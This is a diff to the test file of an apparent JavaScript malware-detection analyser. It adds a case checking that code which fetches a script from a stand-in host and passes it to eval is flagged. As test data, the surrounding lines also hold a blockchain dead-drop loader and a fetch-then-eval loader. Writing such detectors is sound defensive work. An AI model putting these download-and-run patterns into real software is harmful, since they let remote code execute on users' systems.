@@ -98,6 +98,11 @@ describe('what code does', () => {
     assert.deepEqual([...kindsIn(facts)].sort(), ['autostart call', 'download-and-run call']);
   });
 
+  it('is seen where the platform itself is handed what arrives', () => {
+    const code = `fetch('https://load.invalid/x').then((answer) => answer.text()).then(eval);`;
+    assert.deepEqual(flowsIn(analyseIndex(code)), ['downloaded>evaluated import']);
+  });
+
   it('is told with the dead drop that an address comes from, and without one where a caller gives it', () => {
     const drop = `const { Contract } = require('some-chain'); (async () => { const url = await new Contract('0x1').read(); eval(await (await fetch(url)).text()); })();`;
     const loader = `exports.load = (url) => fetch(url).then((answer) => answer.text()).then((text) => eval(text));`;
